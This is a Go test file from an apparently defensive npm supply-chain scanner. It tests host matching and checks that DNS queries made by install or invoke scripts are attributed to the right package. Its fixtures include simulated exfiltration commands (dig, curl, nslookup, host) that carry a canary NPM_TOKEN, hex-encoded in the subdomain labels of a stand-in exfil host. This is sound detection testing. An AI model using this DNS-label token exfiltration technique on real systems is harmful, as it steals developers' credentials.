package scan

import (
	"crypto/rand"
	"encoding/hex"
	"slices"
	"strings"
	"testing"

	"github.com/depbox/depbox/internal/canary"
	"github.com/depbox/depbox/internal/fakenet"
	"github.com/depbox/depbox/profile"
)

func TestHostIn(t *testing.T) {
	for _, tc := range []struct {
		arg, name string
		want      bool
	}{
		{"x.invalid", "x.invalid", true},
		{"http://x.invalid/u?a=1", "x.invalid", true},
		{"https://user@x.invalid:8443/", "x.invalid", true},
		{"x.invalid.", "x.invalid", true},
		{"evil-x.invalid", "x.invalid", false},
		{"a.x.invalid", "x.invalid", false},
		{"x.invalid.evil", "x.invalid", false},
		{"x.invalidity", "x.invalid", false},
		{"-d e=1 a.x.invalid x.invalid", "x.invalid", true},
		{"", "x.invalid", false},
	} {
		if got := hostIn(tc.arg, tc.name); got != tc.want {
			t.Errorf("hostIn(%q, %q) = %v, want %v", tc.arg, tc.name, got, tc.want)
		}
	}
}

// TestDNSOwner: a query no hook record explains belongs to the one package
// whose program named the host (dig in a lifecycle script), with the
// canaries its labels carry; several candidates or none leave it to the
// function, unattributed.
func TestDNSOwner(t *testing.T) {
	c, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	secret := hex.EncodeToString([]byte(c.Value("NPM_TOKEN")))
	beacon := strings.ToUpper(secret[:60]) + "." + secret[60:] + ".dns.exfil.invalid"
	dep := func(path string, b *profile.Behavior) profile.Dependency {
		return profile.Dependency{Name: path, Path: "node_modules/" + path, Phases: map[string]*profile.Behavior{profile.PhaseInstall: b}}
	}
	invoked := func(path string, b *profile.Behavior) profile.Dependency {
		return profile.Dependency{Name: path, Path: "node_modules/" + path, Phases: map[string]*profile.Behavior{profile.PhaseInvoke: b}}
	}
	for _, tc := range []struct {
		name  string
		deps  []profile.Dependency
		phase string // the run's: install, or import for the main run
		owner string // "" for the function's unattributed behaviour
		in    string // the owner's phase
	}{
		{"dig argument", []profile.Dependency{
			dep("a", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"dig", "+short", beacon}}}}),
			dep("b", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"node-gyp", "rebuild"}}}}),
		}, profile.PhaseInstall, "node_modules/a", profile.PhaseInstall},
		{"curl in an invocation", []profile.Dependency{
			invoked("a", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"curl", "-s", "https://" + beacon + "/ip"}}}}),
		}, profile.PhaseImport, "node_modules/a", profile.PhaseInvoke},
		{"nobody named it", []profile.Dependency{
			dep("a", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"dig", "other.invalid"}}}}),
		}, profile.PhaseInstall, "", profile.PhaseInstall},
		{"two named it", []profile.Dependency{
			dep("a", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"nslookup", beacon}}}}),
			dep("b", &profile.Behavior{Processes: []profile.Process{{Argv: []string{"host", beacon}}}}),
		}, profile.PhaseInstall, "", profile.PhaseInstall},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := &profile.Profile{Dependencies: tc.deps}
			// The resolver sees the name lower-cased, as DNS may deliver it.
			rec := fakenet.Record{Kind: "dns", Phase: tc.phase, Name: strings.ToLower(beacon), Type: "A"}
			applyFakeNet(p, []fakenet.Record{rec}, c, map[string]bool{})
			var b *profile.Behavior
			if tc.owner == "" {
				if p.App == nil || p.App.Phases[tc.phase] == nil {
					t.Fatalf("the query is nowhere: %+v", p)
				}
				b = p.App.Phases[tc.phase].Unattributed
			} else {
				b = p.Dependency(tc.owner).Phases[tc.in]
				if p.App != nil && p.App.Phases[tc.phase] != nil && p.App.Phases[tc.phase].Unattributed != nil {
					t.Errorf("the query is also the function's: %+v", p.App.Phases[tc.phase].Unattributed)
				}
			}
			if b == nil || !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == rec.Name }) {
				t.Fatalf("query not in the behaviour of %q: %+v", tc.owner, b)
			}
			if !slices.ContainsFunc(b.Exfiltration, func(e profile.Exfil) bool { return e.Canary == "NPM_TOKEN" && e.Channel == "dns" }) {
				t.Errorf("the token in the labels is not exfiltration: %+v", b.Exfiltration)
			}
		})
	}
}
